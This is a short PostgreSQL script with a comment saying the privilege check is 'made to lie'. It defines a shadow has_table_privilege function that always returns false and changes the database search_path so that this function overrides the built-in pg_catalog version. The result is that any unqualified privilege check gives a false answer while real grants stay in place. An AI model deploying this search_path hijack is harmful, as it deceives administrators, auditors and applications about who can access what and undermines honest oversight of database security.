-- Nothing is revoked. The privilege check is made to lie instead.
CREATE SCHEMA shadow;
GRANT USAGE ON SCHEMA shadow TO PUBLIC;
CREATE FUNCTION shadow.has_table_privilege(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT false';
DO $$ BEGIN
    EXECUTE format('ALTER DATABASE %I SET search_path = shadow, pg_catalog, public', current_database());
END $$;
